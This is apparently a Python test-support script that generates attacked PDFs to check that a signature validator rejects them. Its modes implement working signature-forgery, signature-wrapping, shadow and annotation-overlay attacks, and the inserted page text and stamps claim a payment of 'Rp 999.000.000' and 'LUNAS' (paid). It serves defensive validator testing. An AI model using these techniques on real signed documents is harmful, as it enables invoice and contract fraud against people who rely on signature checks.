#!/usr/bin/env python3
"""pdf_attack.py MODE IN OUT - derive an attacked PDF from a correctly signed
(or, for 'dup', an unsigned) one, for the validator's tests. Independent of
sertel's reader: regular expressions over the bytes and hand-written
incremental updates with a classic cross-reference table.

Modes (the last signature is the one attacked):
  flip            change one byte inside the first signed range (the header comment)
  usf-empty       /Contents <...> -> /Contents <> (same length, blanks)
  usf-null        /Contents <...> -> /Contents null
  usf-nocontents  /Contents key renamed (missing)
  usf-br3         /ByteRange with 3 numbers
  usf-beyond      /ByteRange whose second range runs past the end of the file
  usf-nobr        /ByteRange key renamed (missing)
  append-content  incremental update replacing page 1's content stream
  append-annot    incremental update adding a FreeText annotation to page 1
  dup             incremental update defining one object twice (for signing afterwards)
  wrap-gap        Signature Wrapping: /ByteRange's gap widened to start inside the dictionary
  wrap-overlap    Signature Wrapping: /ByteRange with overlapping ranges
  wrap-move       Signature Wrapping after Mladenov et al. 2019: the second signed range is
                  relocated towards the end of the file, /ByteRange points at it, and
                  unsigned objects (new page content) fill the space between /Contents and it
  shadow-prep     incremental update adding an unused content stream (for signing afterwards)
  shadow-switch   incremental update pointing page 1's /Contents at that hidden stream
                  (hide-and-replace)
  replace-font    incremental update redefining the font page 1 uses (replace)
  add-page        incremental update adding a second page (page count change)
  annot-text      incremental update adding a Text annotation (sticky note) to page 1
  annot-stamp     incremental update adding a Stamp annotation whose appearance covers the
                  page's text (Evil Annotation)
  sneaky-sig      incremental update adding a new, unsigned signature field whose widget has
                  a visible appearance over the page's text (Sneaky Signature)
"""
import re, sys, zlib

mode, src, dst = sys.argv[1], sys.argv[2], sys.argv[3]
d = bytearray(open(src, 'rb').read())


def last_sig():
    ms = list(re.finditer(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', d))
    return ms[-1]


def same_len(old, new):
    assert len(new) <= len(old), (old, new)
    return new + b' ' * (len(old) - len(new))


def append_update(objs):
    """Append objects {num: bytes} with a classic xref section chained to the last one."""
    global d
    sx = int(re.findall(rb'startxref\s+(\d+)', d)[-1])
    tr = re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]
    size = int(re.search(rb'/Size\s+(\d+)', tr).group(1))
    root = re.search(rb'/Root\s+(\d+ \d+ R)', tr).group(1)
    if not d.endswith(b'\n'):
        d += b'\n'
    body = b''
    offs = {}
    for num, text in objs:
        offs.setdefault(num, len(d) + len(body))
        body += b'%d 0 obj\n' % num + text + b'\nendobj\n'
    x = len(d) + len(body)
    xref = b'xref\n'
    for num in sorted(offs):
        xref += b'%d 1\n%010d 00000 n \n' % (num, offs[num])
    size = max(size, max(offs) + 1)
    d += body + xref + b'trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (
        size, root, sx, x)


def page1():
    m = re.search(rb'(\d+) 0 obj\s*<<(?:(?!endobj).)*?/Type\s*/Page\b(?!s)', d, re.S)
    num = int(m.group(1))
    # the newest definition of that object
    defs = list(re.finditer(rb'(?<![0-9])%d 0 obj\s*(<<.*?>>)\s*endobj' % num, d, re.S))
    return num, defs[-1].group(1)


if mode == 'flip':
    assert d[9] in (0x25, 0x0a, 0x0d) or d[10] >= 0x80 or True
    d[10] ^= 0x01
elif mode in ('usf-empty', 'usf-null', 'usf-nocontents'):
    m = last_sig()
    b, c = int(m.group(2)), int(m.group(3))
    k = d.rfind(b'/Contents', 0, b)
    old = bytes(d[k:c])
    new = {'usf-empty': b'/Contents <>', 'usf-null': b'/Contents null',
           'usf-nocontents': b'/Contentz' + old[len(b'/Contentz'):]}[mode]
    d[k:c] = same_len(old, new)
elif mode in ('usf-br3', 'usf-beyond', 'usf-nobr'):
    m = last_sig()
    a, b, c, e = map(int, m.groups())
    old = m.group(0)
    new = {'usf-br3': b'/ByteRange [0 %d %d]' % (b, c),
           'usf-beyond': b'/ByteRange [0 %d %d %d]' % (b, c, e + 100000),
           'usf-nobr': b'/ByteRangX' + old[len(b'/ByteRangX'):]}[mode]
    d[m.start():m.end()] = same_len(old, new)
elif mode == 'append-content':
    num, page = page1()
    cnum = int(re.search(rb'/Contents\s+(\d+)\s+0\s+R', page).group(1))
    text = b'BT /F1 24 Tf 72 700 Td (Dibayar Rp 999.000.000) Tj ET'
    append_update([(cnum, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream')])
elif mode == 'append-annot':
    num, page = page1()
    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
    annot = b'<< /Type /Annot /Subtype /FreeText /Rect [50 600 550 800] /Contents (LUNAS) /DA (/Helv 24 Tf 0 g) >>'
    p = re.sub(rb'/Annots\s*\[', b'/Annots [%d 0 R ' % size, page, count=1)
    if p == page:
        p = page[:-2] + b' /Annots [%d 0 R] >>' % size
    append_update([(size, annot), (num, p)])
elif mode == 'dup':
    num, page = page1()
    cnum = int(re.search(rb'/Contents\s+(\d+)\s+0\s+R', page).group(1))
    text = b'BT /F1 24 Tf 72 700 Td (Versi lain) Tj ET'
    orig = re.search(rb'(?<![0-9])%d 0 obj\s*(<<.*?endstream)' % cnum, d, re.S).group(1)
    append_update([(cnum, orig), (cnum, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream')])
elif mode in ('wrap-gap', 'wrap-overlap'):
    m = last_sig()
    a, b, c, e = map(int, m.groups())
    old = m.group(0)
    new = {'wrap-gap': b'/ByteRange [0 %d %d %d]' % (b - 20, c, e),
           'wrap-overlap': b'/ByteRange [0 %d %d %d]' % (b, b - 10, e)}[mode]
    d[m.start():m.end()] = same_len(old, new)
elif mode == 'wrap-move':
    m = last_sig()
    a, b, c, e = map(int, m.groups())
    num, page = page1()
    cnum = int(re.search(rb'/Contents\s+(\d+)\s+0\s+R', page).group(1))
    text = b'BT /F1 24 Tf 72 700 Td (Dibayar Rp 999.000.000) Tj ET'
    # the rest of the signature dictionary is repeated so that it still parses
    tail = bytes(d[c:d.index(b'endobj', c) + 6])
    evil = tail + b'\n%d 0 obj\n<< /Length %d >>\nstream\n' % (cnum, len(text)) + text + b'\nendstream\nendobj\n'
    old = m.group(0)
    d[m.start():m.end()] = same_len(old, b'/ByteRange [0 %d %d %d]' % (b, c + len(evil), e))
    d[c:c] = evil
elif mode == 'shadow-prep':
    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
    text = b'BT /F1 24 Tf 72 700 Td (Dibayar Rp 999.000.000) Tj ET'
    append_update([(size, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream')])
elif mode == 'shadow-switch':
    num, page = page1()
    hidden = max(int(x) for x in re.findall(rb'(?<![0-9])(\d+) 0 obj\s*<<\s*/Length \d+ >>\nstream\nBT /F1 24 Tf 72 700 Td \(Dibayar', d))
    p = re.sub(rb'/Contents\s+\d+\s+0\s+R', b'/Contents %d 0 R' % hidden, page, count=1)
    append_update([(num, p)])
elif mode == 'replace-font':
    num, page = page1()
    fnum = int(re.search(rb'/F1\s+(\d+)\s+0\s+R', page).group(1))
    append_update([(fnum, b'<< /BaseFont /Courier /Subtype /Type1 /Type /Font >>')])
elif mode == 'add-page':
    num, page = page1()
    pm = re.search(rb'(?<![0-9])(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/Type\s*/Pages\b.*?>>)\s*endobj', d, re.S)
    pnum, pages = int(pm.group(1)), pm.group(2)
    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
    newpage = b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>' % (pnum, size + 1)
    text = b'BT /F1 24 Tf 72 700 Td (Halaman tambahan) Tj ET'
    pages = re.sub(rb'/Count\s+\d+', b'/Count 2', pages)
    pages = re.sub(rb'/Kids\s*\[', b'/Kids [ %d 0 R ' % size, pages, count=1)
    append_update([(size, newpage), (size + 1, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream'), (pnum, pages)])
elif mode in ('annot-text', 'annot-stamp', 'sneaky-sig'):
    num, page = page1()
    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
    ap = b'1 1 1 rg 0 0 500 200 re f 1 0 0 rg BT /Helv 36 Tf 20 80 Td (LUNAS) Tj ET'
    apobj = (size + 1, b'<< /Type /XObject /Subtype /Form /BBox [0 0 500 200] /Length %d >>\nstream\n' % len(ap) + ap + b'\nendstream')
    if mode == 'annot-text':
        objs = [(size, b'<< /Type /Annot /Subtype /Text /Rect [500 780 520 800] /Contents (Mohon diperiksa) /Open false >>')]
    elif mode == 'annot-stamp':
        objs = [(size, b'<< /Type /Annot /Subtype /Stamp /Rect [50 600 550 800] /F 4 /AP << /N %d 0 R >> >>' % (size + 1)), apobj]
    else:
        objs = [(size, b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Persetujuan2) /F 4 /Rect [50 600 550 800] /P %d 0 R /AP << /N %d 0 R >> >>' % (num, size + 1)), apobj]
    # appended at the end of the arrays, as a real incremental update would
    p = re.sub(rb'(/Annots\s*\[[^\]]*)\]', rb'\1 %d 0 R]' % size, page, count=1)
    if p == page:
        p = page[:-2] + b' /Annots [%d 0 R] >>' % size
    objs.append((num, p))
    if mode == 'sneaky-sig':
        cm = list(re.finditer(rb'(?<![0-9])(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/Type\s*/Catalog\b.*?>>)\s*endobj', d, re.S))[-1]
        cat = cm.group(2)
        if re.search(rb'/AcroForm\s*<<', cat):
            cat = re.sub(rb'(/AcroForm\s*<<[^>]*?/Fields\s*\[[^\]]*)\]', rb'\1 %d 0 R]' % size, cat, count=1)
            objs.append((int(cm.group(1)), cat))
        else:
            an = int(re.search(rb'/AcroForm\s+(\d+)\s+0\s+R', cat).group(1))
            af = list(re.finditer(rb'(?<![0-9])%d 0 obj\s*(<<.*?>>)\s*endobj' % an, d, re.S))[-1].group(1)
            objs.append((an, re.sub(rb'(/Fields\s*\[[^\]]*)\]', rb'\1 %d 0 R]' % size, af, count=1)))
    append_update(objs)
else:
    sys.exit('unknown mode ' + mode)
open(dst, 'wb').write(d)
